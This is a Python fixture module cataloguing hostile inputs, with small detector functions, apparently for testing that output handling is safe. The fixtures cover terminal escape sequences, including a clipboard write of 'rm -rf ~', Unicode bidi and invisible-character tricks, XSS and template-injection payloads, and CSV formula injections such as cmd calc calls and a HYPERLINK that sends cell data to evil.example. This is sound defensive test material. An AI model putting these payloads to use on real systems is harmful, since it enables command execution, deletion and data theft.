"""Texts that try to act on a screen: on a terminal, on a page, in a spreadsheet."""

from __future__ import annotations

import re
import unicodedata

TERMINAL = {
    "clear the screen": "\x1b[2J\x1b[H",
    "set the title": "\x1b]0;pwned\x07",
    "set the title, 8 bit": "\x9d0;pwned\x9c",
    "write to the clipboard": "\x1b]52;c;cm0gLXJmIH4K\x07",
    "a link": "\x1b]8;;http://evil.example/\x1b\\here\x1b]8;;\x1b\\",
    "ask for the cursor": "\x1b[6n",
    "ask what it is": "\x1b[c\x1b[>c\x1bZ",
    "ask for the title": "\x1b[21t",
    "a device control string": '\x1bP$q"p\x1b\\',
    "8-bit control": "\x9b31mred\x9b0m",
    "single shifts": "\x1bNa\x1bOb\x8ea\x8fb",
    "another character set": "\x1b(0\x0e",
    "reset": "\x1bc",
    "hide what follows": "\x1b[8m",
    "another screen": "\x1b[?1049h",
    "bracketed paste": "\x1b[?2004h\x1b[200~rm\x1b[201~",
    "for tmux": "\x1bPtmux;\x1b\x1b]0;pwned\x07\x1b\\",
    "for screen": "\x1bkpwned\x1b\\",
    "a window moves": "\x1b[3;0;0t",
    "an answer typed for you": "\x05",
    "overwrite": "innocent\b\b\b\b\b\b\b\bevil",
    "back to the start": "innocent\revil",
    "delete": "a\x7f\x7fb",
    "other ends of lines": "a\x0bb\x0cc\x85d\u2028e\u2029f\x1cg\x1dh\x1ei",
    "a null": "a\x00b",
    "an application's message": "\x1b_hello\x1b\\\x1b^hello\x1b\\\x1bXhello\x1b\\",
    "a markup of the program's own": "[bold red on red]hidden[/] [link=http://evil.example]x[/link] :smile:",
}
"""What moves a terminal's cursor, sets its title, makes it type, or hides text."""

ORDER = {
    "turned round": "\u202eevil\u202c",
    "embedded": "\u202aa\u202bb\u202dc",
    "isolated": "\u2066a\u2067b\u2068c\u2069",
    "marks": "\u200e\u200f\u061c",
}
"""What puts a text, or the text beside it, in another order."""

RIGHT_TO_LEFT = "שלום"
"""Letters of a script that runs the other way: rightly so, but not the text beside it."""

UNSEEN = {
    "zero width": "pass\u200bword\ufeff\u2060",
    "soft hyphen": "pass\u00adword",
    "tags": "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all"),
    "variation selectors": "a\ufe0f\ufe0e\ufe00" + "".join(map(chr, range(0xE0100, 0xE0120))),
    "annotation": "\ufff9shown\ufffahidden\ufffb",
    "Hangul fillers": "\u115f\u1160\u3164\uffa0",
    "Mongolian": "\u180b\u180c\u180d\u180e\u180f",
    "operators": "\u2061\u2062\u2063\u2064\u206a\u206f\u034f\u17b4",
    "joiners": "pass\u200d\u200cword\u200d",
}
"""What nobody sees, and what can carry another text or split a word."""

HEAVY = {
    "marks": "e" + "\u0301\u0334\u0489" * 200,
    "a long word": "w" * 3000,
    "wide letters": "漢" * 300,
    "emoji": "👩‍💻❤️‍🔥" * 80,
    "half a character": "\ud800\udfff\udc9b",
}
"""What takes much room, or none that is whole."""

PAGE = {
    "a script": "<script>document.title='hurt'</script>",
    "the end of a script": "</script><script>document.title='hurt'</script>",
    "the end of a title": "</title></textarea></style></noscript><script>document.title='hurt'</script>",
    "an image": "<img src=x onerror=\"document.title='hurt'\">",
    "an attribute": "\" autofocus onfocus=\"document.title='hurt'\" x='",
    "single quotes": "' onmouseover='document.title=\"hurt\"' x='",
    "a vector image": "<svg onload=document.title='hurt'><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "a link": "<a href=\"javascript:document.title='hurt'\">press</a> javascript:document.title='hurt'",
    "a style": "<style>body{display:none}</style><p style='background:url(http://evil.example/)'>",
    "an inner page": "<iframe srcdoc=\"<script>parent.document.title='hurt'</script>\"></iframe>",
    "elsewhere": '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "another base": '<base href="http://evil.example/"><link rel=stylesheet href=//evil.example/x.css>',
    "a comment": "<!--<script>--><script>document.title='hurt'</script>",
    "templates": "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %> {0.__class__} %(x)s",
    "half a tag": "<b <script/x>document.title='hurt'</script x>",
    "entities": "&lt;script&gt;document.title='hurt'&lt;/script&gt; &#60;b&#62;",
    "the end of a string": "\\u003c/script> \\x3c \\\" \u2028 \u2029 `${document.title='hurt'}`",
    "a form": "<form action=http://evil.example/><button formaction=javascript:alert(1)>x",
}
"""What runs, loads, or breaks out on a page that takes a text for markup."""

FORMULAS = {
    "plain": "=1+1",
    "others": "+1 -1 @SUM(A1)",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a link": '=HYPERLINK("http://evil.example/?"&A1,"see")',
    "data exchange": "=cmd|'/C calc'!A0",
    "space before": " =1+1",
    "tab before": "\t=1+1",
    "line before": "\r\n=1+1",
    "quote before": '"=1+1',
    "single quote before": "'=1+1",
    "unseen before": "\u200b=1+1",
    "joiner before": "\u200d\ufeff=1+1",
    "no-break space before": "\u00a0=1+1",
    "wide": "\uff1d1+1",
    "wide plus": "\uff0b1",
    "wide minus": "\uff0d1",
    "wide at": "\uff20SUM(1)",
    "true minus": "\u22121+1",
    "another column": 'x";=1+1',
    "comma": "x,=1+1",
    "another row": 'x"\r\n=1+1',
    "tab inside": "x\t=1+1",
    "old Lotus": "/fo",
    "percent": "%0A=1+1",
    "pipe": "|calc",
}
"""What a spreadsheet takes for a formula, or may once it has guessed another separator."""

FORMULA_SIGNS = "=+-@\u2212\uff1d\uff0b\uff0d\uff20"

EVERY = {**TERMINAL, **ORDER, **UNSEEN, **HEAVY}
STYLING = re.compile(r"\x1b\[[0-9;]*m")
_UNSEEN = frozenset("".join(UNSEEN.values())) - frozenset("paswordshnie \u200c\u200d\ufe0f\ufe0e") | {
    chr(code) for code in range(0xE0000, 0xE1000)
}


def in_lines() -> str:
    """Return all tricks against a terminal in one text, each followed by a plain word."""
    return " ".join(f"{trick}seen" for trick in (*TERMINAL.values(), *ORDER.values(), *UNSEEN.values()))


def acts(written: str) -> list[str]:
    """Return what in a text could act on a terminal, or hides: names of its characters.

    Line feeds are no trick, nor letters of any script, nor the single joiners that scripts and emoji need.
    """
    bad = [letter for letter in written if _is_bad(letter)]
    bad += re.findall("[\u200c\u200d\ufe00-\ufe0f]{3,}|[!-~][\u200c\u200d]", written)
    return [ascii(found) for found in bad]


def _is_bad(letter: str) -> bool:
    if letter == "\n":
        return False
    if letter in _UNSEEN and not letter.isprintable():
        return True
    if letter in "\u200c\u200d":
        return False
    return (
        unicodedata.category(letter) in ("Cc", "Cf", "Cs", "Zl", "Zp") or letter in "\u115f\u1160\u3164\uffa0"
    )


def stacked(written: str) -> int:
    """Return how many marks stand on one letter at most."""
    runs = re.findall("[\u0300-\u036f\u0483-\u0489]+", written)
    return max(map(len, runs), default=0)
